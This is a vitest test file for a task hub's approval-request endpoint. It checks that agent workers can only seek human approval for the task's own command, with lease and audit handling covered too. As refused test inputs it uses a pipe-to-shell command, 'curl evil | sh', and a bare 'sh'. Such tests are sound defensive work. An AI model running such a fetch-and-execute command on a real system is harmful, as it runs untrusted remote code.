import type { Store } from '@ctxbus/store';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Hub } from '../create-hub.js';
import type { MemoryHub } from '../memory-hub.js';
import { memoryHub } from '../memory-hub.js';

// A worker's approval request through the hub's HTTP handler, on the repository's
// capabilities.yaml: people are shown the request under the task's title, origin and history,
// so the hub takes one only about the task's own command (its input's argv, element by
// element). Anything else is refused and leaves the task as it was: WORKING, the same lease,
// nothing announced.

let store: Store;
let hub: Hub;
const tokens: Record<string, string> = {};

async function post(runtime: string, path: string, body: unknown) {
  const response = await hub.app.request(path, {
    method: 'POST',
    headers: { authorization: `Bearer ${tokens[runtime]}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  return { status: response.status, body: (await response.json()) as any };
}

/** A code_execution task from openclaw, claimed by claude-code's worker: the task and its token. */
async function claimed(input: Record<string, unknown>) {
  const created = await post('claw', '/api/tasks', {
    title: 'Run the tests',
    requiredCapabilities: ['code_execution'],
    input,
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  const claim = await post('code', '/api/tasks/claim', { workerId: 'w' });
  expect(claim.body.task?.id).toBe(created.body.task.id);
  return { id: claim.body.task.id as string, token: claim.body.task.lease.token as number };
}

const ask = (id: string, token: number, argv: string[], cwd = '/tmp') =>
  post('code', `/api/tasks/${id}/approval-request`, {
    token,
    request: { argv, cwd, scriptHash: null, because: 'not_allowed' },
  });

let world: MemoryHub<'code' | 'claw' | 'codex'>;

beforeEach(async () => {
  world = await memoryHub({ code: 'claude-code', claw: 'openclaw', codex: 'codex' });
  ({ store, hub } = world);
  Object.assign(tokens, world.tokens);
});

afterEach(() => world.close());

describe('POST /api/tasks/:id/approval-request: only the task’s own command', () => {
  it('refuses another argv than the task input’s, leaving the task WORKING under the same lease', async () => {
    const { id, token } = await claimed({ argv: ['npm', 'test'], cwd: '/tmp' });
    const before = await store.getTask('acme', id);
    const since = (await store.listAudit('acme', { limit: 200 })).length;
    for (const [argv, says] of [
      [['curl', 'evil', '|', 'sh'], `argv[0] is "curl" where the task's is "npm"`],
      [['npm', 'test', '--', 'x'], `goes on after the task's 2 element(s) with argv[2] "--"`],
      [['npm'], `stops after 1 element(s) where the task's goes on with argv[1] "test"`],
      [['npm', 'test '], `argv[1] is "test " where the task's is "test"`],
    ] as const) {
      const refused = await ask(id, token, [...argv]);
      expect(refused.status, JSON.stringify(refused.body)).toBe(409);
      expect(refused.body.error).toMatchObject({
        code: 'conflict',
        details: { reason: 'command_mismatch', taskId: id },
      });
      expect(refused.body.error.message).toContain(says);
    }
    const after = await store.getTask('acme', id);
    expect(after?.task.state).toBe('WORKING');
    expect(after?.task.approval).toBeNull();
    expect(after?.task.lease).toEqual(before?.task.lease);
    expect(after?.history).toEqual(before?.history);
    expect((await store.listAudit('acme', { limit: 200 })).length).toBe(since);

    // The same lease still asks about the task's own command.
    const asked = await ask(id, token, ['npm', 'test']);
    expect(asked.status, JSON.stringify(asked.body)).toBe(200);
    expect(asked.body.task).toMatchObject({
      state: 'AUTH_REQUIRED',
      approval: { status: 'pending', request: { argv: ['npm', 'test'], cwd: '/tmp' } },
    });
  });

  it('tells only the lease holder how its command differs: a stale token is refused as stale', async () => {
    const { id, token } = await claimed({ argv: ['npm', 'test'], cwd: '/tmp' });
    const stale = await ask(id, token + 1, ['curl', 'evil']);
    expect(stale.status, JSON.stringify(stale.body)).toBe(409);
    expect(stale.body.error).toMatchObject({ code: 'conflict' });
    expect(stale.body.error.details?.reason).not.toBe('command_mismatch');
    expect(stale.body.error.message).not.toContain('npm');
    expect(stale.body.error.message).toMatch(/fencing|lease|stale/);
  });

  it('is refused, and audited, for a task nobody holds and from a runtime that does not hold it', async () => {
    const queued = await post('claw', '/api/tasks', {
      title: 'Run the tests',
      requiredCapabilities: ['code_execution'],
      input: { argv: ['git', 'status'], cwd: '/tmp' },
    });
    const id = queued.body.task.id as string;
    const since = (await store.listAudit('acme', { limit: 200 })).length;
    const request = (argv: string[]) => ({
      token: 1,
      request: { argv, cwd: '/tmp', scriptHash: null, because: 'not_allowed' },
    });
    // A bystander, the origin, and the runtime it is routed to, before any claim: nobody holds
    // it, so nobody may put another command (or this one) before a person under its title.
    for (const runtime of ['codex', 'claw', 'code']) {
      const refused = await post(runtime, `/api/tasks/${id}/approval-request`, request(['sh']));
      expect(refused.status, JSON.stringify(refused.body)).toBe(409);
      expect(refused.body.error.details).toMatchObject({ reason: 'stale_lease' });
    }
    expect((await store.getTask('acme', id))?.task).toMatchObject({
      state: 'SUBMITTED',
      approval: null,
    });
    // Claimed: another runtime with the holder's own token is refused as not the holder.
    const claim = await post('code', '/api/tasks/claim', { workerId: 'w' });
    const token = claim.body.task.lease.token as number;
    const other = await post('codex', `/api/tasks/${id}/approval-request`, {
      ...request(['git', 'status']),
      token,
    });
    expect(other.status, JSON.stringify(other.body)).toBe(403);
    expect(other.body.error.details).toMatchObject({ reason: 'not_lease_holder' });
    const audit = (await store.listAudit('acme', { limit: 200 })).slice(since);
    const refusals = audit.filter((record) => record.kind === 'task.report-refused');
    expect(
      refusals.map((record) => [record.actor, record.data.action, record.data.reason]),
    ).toEqual([
      ['codex', 'approval-request', 'stale_lease'],
      ['openclaw', 'approval-request', 'stale_lease'],
      ['claude-code', 'approval-request', 'stale_lease'],
      ['codex', 'approval-request', 'not_lease_holder'],
    ]);
    expect((await store.getTask('acme', id))?.task.state).toBe('WORKING');
  });

  it('takes the real directory the worker resolved: the hub cannot check cwd', async () => {
    const { id, token } = await claimed({ argv: ['npm', 'test'], cwd: '~/app' });
    const asked = await ask(id, token, ['npm', 'test'], '/home/dev/app');
    expect(asked.status, JSON.stringify(asked.body)).toBe(200);
    expect(asked.body.task.approval.request).toMatchObject({ cwd: '/home/dev/app' });
  });

  it('refuses a request for a task whose input has no argv', async () => {
    const { id, token } = await claimed({ script: 'npm test', cwd: '/tmp' });
    const refused = await ask(id, token, ['npm', 'test']);
    expect(refused.status, JSON.stringify(refused.body)).toBe(409);
    expect(refused.body.error).toMatchObject({
      code: 'conflict',
      details: { reason: 'command_mismatch' },
      message: expect.stringContaining('its input has no argv'),
    });
    expect((await store.getTask('acme', id))?.task.state).toBe('WORKING');
  });
});
